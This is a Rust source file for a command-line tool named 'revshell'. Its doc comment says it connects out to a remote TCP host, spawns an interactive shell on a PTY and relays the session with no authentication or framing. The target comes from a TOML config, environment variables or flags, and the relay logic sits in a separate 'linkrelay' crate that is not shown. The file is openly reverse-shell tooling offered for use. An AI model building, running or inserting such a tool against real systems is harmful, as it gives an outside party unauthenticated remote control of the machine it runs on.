//! # revshell
//!
//! Connects to a remote TCP endpoint, starts an interactive shell on a PTY,
//! and relays raw bytes both ways until the shell exits. Prints
//! `Shell killed` when it does.
//!
//! There is no framing, authentication, or reconnect: one connection, one
//! shell. The target comes from `revshell.toml`, `REVSHELL_HOST` /
//! `REVSHELL_PORT`, or the flags below.

use std::path::PathBuf;

use anyhow::Context;
use clap::Parser;
use tracing::info;

use linkrelay::{relay, Config};

/// Relay an interactive shell to a remote socket.
#[derive(Parser)]
#[command(name = "revshell", version)]
struct Cli {
    /// Path to TOML config file.
    #[arg(long)]
    config: Option<PathBuf>,
    /// Remote host (overrides config and environment).
    #[arg(long)]
    host: Option<String>,
    /// Remote port (overrides config and environment).
    #[arg(long)]
    port: Option<u16>,
}

#[tokio::main]
async fn main() -> anyhow::Result<()> {
    let cli = Cli::parse();

    let mut config = Config::load(cli.config.as_deref()).context("loading configuration")?;
    if let Some(host) = cli.host {
        config.target.host = host;
    }
    if let Some(port) = cli.port {
        config.target.port = port;
    }

    let log_filter = std::env::var("RUST_LOG").unwrap_or_else(|_| config.logging.level.clone());
    tracing_subscriber::fmt()
        .with_env_filter(log_filter)
        .with_writer(std::io::stderr)
        .init();

    info!("revshell v{} starting", env!("CARGO_PKG_VERSION"));
    info!(
        "Target {}:{}, shell {}",
        config.target.host, config.target.port, config.shell.program
    );

    let status = relay::run(&config, &mut std::io::stdout()).await?;
    info!("Session finished ({status})");
    Ok(())
}
